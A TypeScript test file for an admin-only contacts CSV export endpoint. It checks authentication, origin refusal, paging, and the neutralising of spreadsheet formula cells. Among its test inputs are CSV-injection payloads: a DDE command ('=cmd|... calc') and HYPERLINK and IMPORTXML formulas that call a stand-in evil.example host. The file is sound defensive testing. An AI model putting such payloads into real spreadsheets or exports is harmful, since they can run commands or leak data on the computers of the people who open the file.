/**
 * `GET /v1/exports/contacts.csv`: admin only, `text/csv`, one row per live lead or user, and cells
 * that a spreadsheet would run as formulas (`=`, `+`, `-`, `@`, tab, CR first) neutralised with `'`.
 */
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { App } from '../../../server-stub/storage/apps.ts';
import { csvCell, exportContactsCsv } from '../../../server-stub/services/contact-export.ts';
import { startTestServer, type TestServer } from '../../support/server-app.ts';
import { dbFingerprint } from '../../support/db-fingerprint.ts';
import { operator, widget } from '../http/helpers.ts';

const HEADER = 'id,role,user_id,email,name,created_via,created_at';

describe('csvCell', () => {
  it.each([
    [null, ''],
    ['', ''],
    ['plain', 'plain'],
    ['=1+1', "'=1+1"],
    ['+33 1 23', "'+33 1 23"],
    ['-42', "'-42"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', `"'\rCR"`],
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a=b', 'a=b'],
    [' =not first', ' =not first'],
    ["'=already quoted", "'=already quoted"],
  ] as const)('csvCell(%j) is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

let t: TestServer;
let app: App;
beforeEach(async () => {
  t = await startTestServer();
  app = await t.createApp();
});
afterEach(async () => t.close());

const exportCsv = (token = app.admin_token) => t.call('GET', '/v1/exports/contacts.csv', undefined, { token });
const rowsOf = (csv: string) => parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];

describe('GET /v1/exports/contacts.csv', () => {
  it('needs the admin token (401), never answers another origin, and writes nothing', async () => {
    expect((await t.call('GET', '/v1/exports/contacts.csv')).status).toBe(401);
    expect((await exportCsv('pat_wrong')).status).toBe(401);
    expect((await t.call('GET', '/v1/exports/contacts.csv', undefined, { token: app.admin_token, headers: { origin: 'https://evil.example' } })).status).toBe(403);
    await operator(t, app).createContact({ role: 'user', user_id: 'u1' });
    const before = await dbFingerprint(t.parley.services.db);
    expect((await exportCsv()).status).toBe(200);
    expect(await dbFingerprint(t.parley.services.db)).toBe(before);
  });

  it('answers text/csv with the header row and one row per live lead and user; no visitors, no merged leads', async () => {
    const op = operator(t, app);
    const user = await op.createContact({ role: 'user', user_id: 'u1', email: 'ann@example.com', name: 'Ann' });
    const apiLead = await op.createContact({ role: 'lead', email: 'lead@example.com', name: 'Lee' });
    const lead = (await widget(t, app).start('hi')).body.contact.id as string;
    const merged = (await widget(t, app).start('hi')).body.contact.id as string;
    await op.merge(merged, user.body.id);
    await widget(t, app).ping(); // a visitor
    const res = await exportCsv();
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toContain('attachment');
    const csv = String(res.body);
    expect(csv.split('\r\n')[0]).toBe(HEADER);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = rowsOf(csv);
    expect(rows.map((r) => r['id']).sort()).toEqual([user.body.id, apiLead.body.id, lead].sort());
    expect(rows.find((r) => r['id'] === user.body.id)).toEqual({
      id: user.body.id, role: 'user', user_id: 'u1', email: 'ann@example.com', name: 'Ann', created_via: 'api', created_at: user.body.created_at,
    });
    expect(rows.find((r) => r['id'] === lead)).toMatchObject({ role: 'lead', user_id: '', email: '', created_via: 'messenger' });
  });

  it('neutralises formula cells in every column a contact controls, and round-trips the rest', async () => {
    const op = operator(t, app);
    const evil = [
      { user_id: '=cmd|\' /C calc\'!A0', email: '+bob@example.com', name: '-2+3' },
      { user_id: '@SUM(1+1)', email: '=x@example.com', name: '\tHidden' },
      { user_id: '+1', email: '-dash@example.com', name: '\rCarriage' },
      { user_id: 'plain', email: 'plain@example.com', name: 'Smith, "Jo"\nsecond line' },
    ];
    for (const e of evil) expect((await op.createContact({ role: 'user', ...e })).status).toBe(201);
    // A lead's name comes from the widget's lead prompt: the visitor writes it.
    await widget(t, app).ping({ lead: { email: 'lead@example.com', name: '=IMPORTXML("http://evil.example")' } });

    const rows = rowsOf(String((await exportCsv()).body));
    const byEmail = new Map(rows.map((r) => [r['email']!.replace(/^'/, ''), r]));
    const neutral = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    for (const e of evil) {
      const row = byEmail.get(e.email)!;
      expect(row, e.email).toBeDefined();
      expect(row['user_id']).toBe(neutral(e.user_id));
      expect(row['email']).toBe(neutral(e.email));
      expect(row['name']).toBe(neutral(e.name));
    }
    expect(byEmail.get('lead@example.com')!['name']).toBe('\'=IMPORTXML("http://evil.example")');
    // No cell of the file starts with a formula character.
    for (const r of rows) for (const cell of Object.values(r)) expect(/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell)).toBe(false);
  });

  it('pages through the contacts: every contact once, in id order, whatever the page size', async () => {
    const op = operator(t, app);
    const ids: string[] = [];
    for (let i = 0; i < 7; i++) ids.push((await op.createContact({ role: 'user', user_id: `u${i}` })).body.id);
    for (const pageSize of [1, 2, 3, 7, 1000]) {
      const csv = await new Response(exportContactsCsv(t.parley.services, app, pageSize)).text();
      expect(rowsOf(csv).map((r) => r['id']), `page size ${pageSize}`).toEqual([...ids].sort());
    }
    expect(rowsOf(String((await exportCsv()).body)).map((r) => r['id'])).toEqual([...ids].sort());
  });

  it('an app with no contacts exports the header row only', async () => {
    expect(String((await exportCsv()).body)).toBe(`${HEADER}\r\n`);
  });
});
